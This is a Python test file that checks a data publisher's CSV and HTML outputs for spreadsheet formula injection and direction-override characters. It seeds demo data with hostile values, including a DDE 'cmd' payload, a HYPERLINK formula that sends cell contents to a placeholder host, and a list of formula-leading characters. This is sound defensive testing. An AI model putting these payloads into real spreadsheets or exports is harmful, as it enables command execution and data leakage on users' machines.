"""The publish gate on real batches of the demo: every file declared, spreadsheet text neutralised.

The demo's own files are copied and given hostile names (spreadsheet formulas, a
TAB before a formula that trimming would bring to the front, a right-to-left
override), then two batches run on them: the first every view, the second only the
asset map (what "What changed" compares are the place's summaries, which every batch
saves whatever its views). Every file written under ``--out`` must be in the registry of
outputs; no cell of any CSV may start a formula; "What changed" must read the names
back as written (no asset shows as both closed and new).
"""
from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest

from ccdata.run import batch, changes

#: Hostile names given to demo organisations (connections.csv) and assets (assets.csv).
ORG_NAMES = {"Kingsmead Academy": '=HYPERLINK("http://x/?"&A1,"y")',
             "Hollins Nursery and Infant School": "\t=1+1"}
ASSET_NAMES = ["+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "Kids\u202eClub"]
#: A formula in a spreadsheet cell: these first characters (OWASP CSV injection).
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\0")
NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def _hostile_copy(demo_data_dir: Path, root: Path) -> Path:
    data = root / "data"
    shutil.copytree(demo_data_dir, data, symlinks=True)
    local = data / "raw" / "demo" / "local"
    orgs = pd.read_csv(local / "organisations.csv", dtype=str, keep_default_na=False)
    ties = pd.read_csv(local / "relationships.csv", dtype=str, keep_default_na=False)
    for old, new in ORG_NAMES.items():
        assert old in set(orgs["name"]), old
        orgs["name"] = orgs["name"].replace(old, new)
        for col in ("respondent organisation", "partner organisation"):
            ties[col] = ties[col].replace(old, new)
    orgs.to_csv(local / "organisations.csv", index=False)
    ties.to_csv(local / "relationships.csv", index=False)
    assets = pd.read_csv(local / "assets.csv", dtype=str, keep_default_na=False)
    assets.loc[: len(ASSET_NAMES) - 1, "Name"] = ASSET_NAMES
    assets.to_csv(local / "assets.csv", index=False)
    return data


@pytest.fixture(scope="module")
def hostile_runs(demo_data_dir, tmp_path_factory):
    """Two batches of the demo with hostile names (the second compares with the first).

    The first runs every view, so every view's page and files are written (and checked
    below); the second runs the asset map alone: "What changed" reads the summaries
    (assets.csv, connections.csv) that the batch saves for the place whatever its views,
    and running every notebook again doubled the module's time for no other check.
    """
    from ccdata import cache

    root = tmp_path_factory.mktemp("hostile-batch")
    data = _hostile_copy(demo_data_dir, root)
    out = root / "site"
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("CCDATA_DATA_DIR", str(data))
        cache.clear()
        first = batch.run_batch(["demo"], out=out, jobs=1, progress=False)
        second = batch.run_batch(["demo"], views=["assets"], out=out, jobs=1, progress=False)
    cache.clear()
    return out, first, second


def _cells(path: Path) -> list[tuple[int, str, str]]:
    """(row, column, text) of every cell of a CSV file, read as a spreadsheet would (no trimming)."""
    text = path.read_text(encoding="utf-8")
    lines = text.splitlines(keepends=True)
    if lines and lines[0].startswith("# "):  # the demo's fictional-data notice
        text = "".join(lines[1:])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    head = rows[0]
    return [(i, head[j] if j < len(head) else str(j), cell) for i, row in enumerate(rows[1:], start=2)
            for j, cell in enumerate(row)] + [(1, c, c) for c in head]


@pytest.mark.slow(reason="two real batches of the demo place (module fixture)")
def test_no_spreadsheet_cell_starts_a_formula(hostile_runs):
    out, first, second = hostile_runs
    assert first.ok and second.ok, second.summary()
    run = second.run_dir
    place = run / "demo"
    written = {p.name for p in place.glob("*.csv")} | {p.name for p in run.glob("*.csv")}
    assert {"assets.csv", "connections.csv", "summary.csv"} <= written
    # every CSV of both runs (the first ran every view, so any view's files are among them)
    csvs = [p for r in (first.run_dir, run) for p in list((r / "demo").glob("*.csv")) + list(r.glob("*.csv"))]
    live, overrides = [], []
    for path in csvs:
        for row, col, cell in _cells(path):
            # what a spreadsheet sees after trimming the cell, and the cell as it is
            if cell[:1] in FORMULA and not NUMBER.match(cell) or cell.lstrip()[:1] in "=+-@" \
                    and cell.lstrip()[:1] and not NUMBER.match(cell.strip()):
                live.append(f"{path.name} row {row} column {col}: {cell!r}")
            if "\u202e" in cell:
                overrides.append(f"{path.name} row {row} column {col}")
    assert not live, "cells a spreadsheet would run as formulas:\n" + "\n".join(live)
    assert not overrides, f"direction overrides in: {overrides}"
    # the hostile names are there, each behind one quote (nothing was dropped)
    assets = (place / "assets.csv").read_text(encoding="utf-8")
    connections = (place / "connections.csv").read_text(encoding="utf-8")
    assert "'+cmd|' /C calc'!A0" in assets and "'@SUM(1+1)" in assets and "'-2+3" in assets
    assert "KidsClub" in assets
    # the partnership's own list is named in words in a published file, never by its file's name
    assert "the partnership's list" in assets and "local list (" not in assets
    assert "'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")" in connections
    assert "'=1+1" in connections or "'\t=1+1" in connections


@pytest.mark.slow(reason="two real batches of the demo place (module fixture)")
def test_what_changed_reads_the_names_back_as_written(hostile_runs):
    out, first, second = hostile_runs
    old, new = first.run_dir / "demo", second.run_dir / "demo"
    moved = changes.compare_assets(changes.read_summary(old / "assets.csv"),
                                   changes.read_summary(new / "assets.csv"))
    assert moved["new"].empty and moved["closed"].empty
    ties = changes.compare_connections(changes.read_summary(old / "connections.csv"),
                                       changes.read_summary(new / "connections.csv"))
    assert ties["gained"].empty and ties["lost"].empty
    names = set(changes.read_summary(new / "assets.csv")["name"])
    assert {"+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"} <= names   # the text meant, not the quoted one
    page = (new / "changes.html").read_text(encoding="utf-8")
    assert "cmd|" not in page and "HYPERLINK" not in page   # listed neither as closed nor as new


@pytest.mark.slow(reason="two real batches of the demo place (module fixture)")
def test_every_file_a_batch_writes_is_declared(hostile_runs):
    from ccdata.run import registry

    out, first, second = hostile_runs
    found = sorted(p.relative_to(out).as_posix() for p in out.rglob("*")
                   if p.is_file() or p.is_symlink())
    assert "latest" in found and any(f.endswith("/demo/assets.csv") for f in found)
    undeclared = [f for f in found if registry.declared(f) is None]
    assert not undeclared, f"files written but not declared (ccdata.publish.OUTPUTS, the views): {undeclared}"
    # nothing half-written is left, and nothing of a run's temporary folder
    assert not [f for f in found if f.endswith(".part") or "/.tmp-" in f]


@pytest.mark.slow(reason="two real batches of the demo place (module fixture)")
def test_pages_carry_no_direction_override(hostile_runs):
    out, first, second = hostile_runs
    # every view's page (the first run) and the second run's pages (its index, "What changed")
    pages = sorted((first.run_dir / "demo").glob("*.html")) + sorted((second.run_dir / "demo").glob("*.html"))
    assert {"dashboard.html", "network.html", "changes.html"} <= {p.name for p in pages}
    for page in pages:
        assert "\u202e" not in page.read_text(encoding="utf-8"), page.name
    for run in (first, second):
        assets = (run.run_dir / "demo" / "assets.html").read_text(encoding="utf-8")
        assert "KidsClub" in assets or "Kids&#8238;Club" not in assets
